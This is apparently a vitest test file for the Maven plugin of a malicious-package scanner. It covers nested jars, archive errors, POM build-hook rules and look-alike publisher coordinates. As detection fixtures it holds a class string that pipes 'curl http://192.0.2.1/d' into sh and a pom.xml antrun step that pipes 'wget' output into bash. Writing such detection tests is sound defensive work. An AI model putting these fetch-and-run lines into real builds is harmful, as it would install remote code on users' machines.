import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { withLimits } from '../../src/core/limits.js';
import { mavenPlugin } from '../../src/ecosystems/maven/plugin.js';
import { classBytes } from './classgen.js';
import { analyze, loadOptions, makeZip, scanBytes } from './helpers.js';

const tmp = mkdtempSync(path.join(os.tmpdir(), 'beagle-mvn-local-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

const inner = makeZip([
  ['META-INF/maven/org.x/inner/pom.properties', 'groupId=org.x\nartifactId=inner\nversion=1\n'],
  ['META-INF/services/java.sql.Driver', 'org.x.Drv\n'],
  ['org/x/Drv.class', classBytes('org/x/Drv', [], ['/bin/sh -c curl http://192.0.2.1/d | sh'], '<clinit>')],
]);

describe('local Maven files', () => {
  it('claims jars, wars, aars, poms and class files by name and bytes', () => {
    expect(mavenPlugin.claimsFile('a.jar', inner)).toBe(true);
    expect(mavenPlugin.claimsFile('a.jar', Buffer.from('text'))).toBe(false);
    expect(
      mavenPlugin.claimsFile('x/pom.xml', Buffer.from('<project><artifactId>a</artifactId></project>')),
    ).toBe(true);
    expect(mavenPlugin.claimsFile('a.class', classBytes('A', []))).toBe(true);
    expect(mavenPlugin.claimsFile('a.tgz', inner)).toBe(false);
  });

  it('opens jars nested in a war (WEB-INF/lib) and names entries outer!/inner', async () => {
    const war = makeZip([
      ['WEB-INF/web.xml', '<web-app/>'],
      ['WEB-INF/lib/inner-1.jar', inner],
    ]);
    const r = await scanBytes('app.war', war);
    const paths = r.artifact.files.map((f) => f.path);
    expect(paths).toContain('WEB-INF/lib/inner-1.jar!/org/x/Drv.class');
    // the static initializer of a class inside the nested jar runs at import
    const ioc = r.findings.find(
      (f) => f.file === 'WEB-INF/lib/inner-1.jar!/org/x/Drv.class' && f.ruleId === 'NET-001',
    );
    expect(ioc?.context).toBe('import');
  });

  it('stops at limits.maxNesting', async () => {
    const level2 = makeZip([['lib/inner.jar', inner]]);
    const level1 = makeZip([['lib/level2.jar', level2]]);
    const options = { ...loadOptions(), limits: withLimits({ maxNesting: 1 }) };
    const artifact = await mavenPlugin.readFile('outer.jar', level1, options);
    expect(artifact.files.map((f) => f.path)).toContain('lib/level2.jar!/lib/inner.jar');
    expect(artifact.files.some((f) => f.path.includes('inner.jar!/'))).toBe(false);
    expect(artifact.warnings.join('\n')).toMatch(/deeper than 1/);
  });

  it('fails with corrupt-archive naming the file for a broken jar', async () => {
    await expect(
      mavenPlugin.readFile('broken.jar', Buffer.from('PK\x03\x04garbage'), loadOptions()),
    ).rejects.toMatchObject({
      code: 'corrupt-archive',
      message: expect.stringContaining('broken.jar'),
    });
  });

  it('fails with invalid-package for a .pom that is not a POM', async () => {
    await expect(mavenPlugin.readFile('x.pom', Buffer.from('<html/>'), loadOptions())).rejects.toMatchObject({
      code: 'invalid-package',
      message: expect.stringContaining('x.pom'),
    });
  });

  it('reads identity from the embedded pom.properties', async () => {
    const r = await scanBytes('inner-1.jar', inner);
    expect(r.artifact.name).toBe('org.x:inner');
    expect(r.artifact.version).toBe('1');
  });

  it('reads a Maven project folder with its pom.xml and jars under lib/', async () => {
    const dir = path.join(tmp, 'proj');
    mkdirSync(path.join(dir, 'lib'), { recursive: true });
    writeFileSync(
      path.join(dir, 'pom.xml'),
      '<project><groupId>org.p</groupId><artifactId>proj</artifactId><version>0.1</version><build><plugins><plugin><artifactId>maven-antrun-plugin</artifactId><executions><execution><phase>initialize</phase><configuration><target><exec executable="bash"><arg value="-c"/><arg value="wget -qO- http://192.0.2.1/i | bash"/></exec></target></configuration><goals><goal>run</goal></goals></execution></executions></plugin></plugins></build></project>',
    );
    writeFileSync(path.join(dir, 'lib', 'inner-1.jar'), inner);
    expect(await mavenPlugin.claimsFolder(dir)).toBe(true);
    const artifact = await mavenPlugin.readFolder(dir, loadOptions());
    expect(artifact.name).toBe('org.p:proj');
    expect(artifact.files.map((f) => f.path)).toContain('lib/inner-1.jar!/org/x/Drv.class');
    const r = await analyze(artifact);
    const [f] = r.rule('JAVA-016');
    expect(f?.context).toBe('install');
    expect(f?.severity === 'high' || f?.severity === 'critical').toBe(true);
    expect(r.verdict.verdict).toBe('malicious');
  });
});

describe('POM and coordinate rules', () => {
  const pom = (g: string, a: string, extra = '') =>
    Buffer.from(
      `<project><modelVersion>4.0.0</modelVersion><groupId>${g}</groupId><artifactId>${a}</artifactId><version>1.0</version>${extra}</project>`,
    );

  it('JAVA-016: exec-maven-plugin with a plain build step is medium; pluginManagement alone is nothing', async () => {
    const exec =
      '<build><plugins><plugin><groupId>org.codehaus.mojo</groupId><artifactId>exec-maven-plugin</artifactId><executions><execution><phase>generate-sources</phase><goals><goal>exec</goal></goals><configuration><executable>protoc</executable></configuration></execution></executions></plugin></plugins></build>';
    const r = await scanBytes('pom.xml', pom('org.p', 'gen', exec));
    expect(r.rule('JAVA-016')[0]?.severity).toBe('medium');
    const managed = exec
      .replace('<build><plugins>', '<build><pluginManagement><plugins>')
      .replace('</plugins></build>', '</plugins></pluginManagement></build>');
    expect((await scanBytes('pom.xml', pom('org.p', 'gen', managed))).rule('JAVA-016')).toHaveLength(0);
  });

  it('JAVA-016: a plain-http repository is reported, https is not', async () => {
    const repo = (u: string) =>
      `<repositories><repository><id>r</id><url>${u}</url></repository></repositories>`;
    expect(
      (await scanBytes('pom.xml', pom('org.p', 'a', repo('http://repo.example.invalid/m2')))).rule(
        'JAVA-016',
      ),
    ).toHaveLength(1);
    expect(
      (await scanBytes('pom.xml', pom('org.p', 'a', repo('https://repo.example.invalid/m2')))).rule(
        'JAVA-016',
      ),
    ).toHaveLength(0);
  });

  it('JAVA-017: look-alike groups of well-known publishers', async () => {
    const tld = (await scanBytes('pom.xml', pom('org.fasterxml.jackson.core', 'jackson-databind'))).rule(
      'JAVA-017',
    );
    expect(tld[0]?.severity).toBe('high');
    expect(tld[0]?.message).toMatch(/imitates com\.fasterxml\.jackson\.core/);
    expect(
      (await scanBytes('pom.xml', pom('io.springboot', 'spring-boot-starter-web'))).rule('JAVA-017'),
    ).toHaveLength(1);
    expect(
      (await scanBytes('pom.xml', pom('com.fasterxml.jackson.core', 'jackson-databind'))).rule('JAVA-017'),
    ).toHaveLength(0);
    expect((await scanBytes('pom.xml', pom('io.github.someone', 'my-util'))).rule('JAVA-017')).toHaveLength(
      0,
    );
  });

  it('JAVA-018: a popular jar re-published under other coordinates', async () => {
    const jar = makeZip([
      ['pom.xml', pom('com.example.evil', 'jackson-databind')],
      [
        'META-INF/maven/com.fasterxml.jackson.core/jackson-databind/pom.properties',
        'groupId=com.fasterxml.jackson.core\nartifactId=jackson-databind\nversion=2.17.0\n',
      ],
      ['com/fasterxml/jackson/databind/X.class', classBytes('com/fasterxml/jackson/databind/X', ['a'])],
    ]);
    const r = await scanBytes('jackson-databind-2.17.0.jar', jar);
    expect(r.rule('JAVA-018')[0]?.severity).toBe('high');
    const own = makeZip([
      ['META-INF/maven/org.own/thing/pom.properties', 'groupId=org.own\nartifactId=thing\nversion=1\n'],
      ['org/own/T.class', classBytes('org/own/T', ['a'])],
    ]);
    expect((await scanBytes('thing-1.jar', own)).rule('JAVA-018')).toHaveLength(0);
  });
});
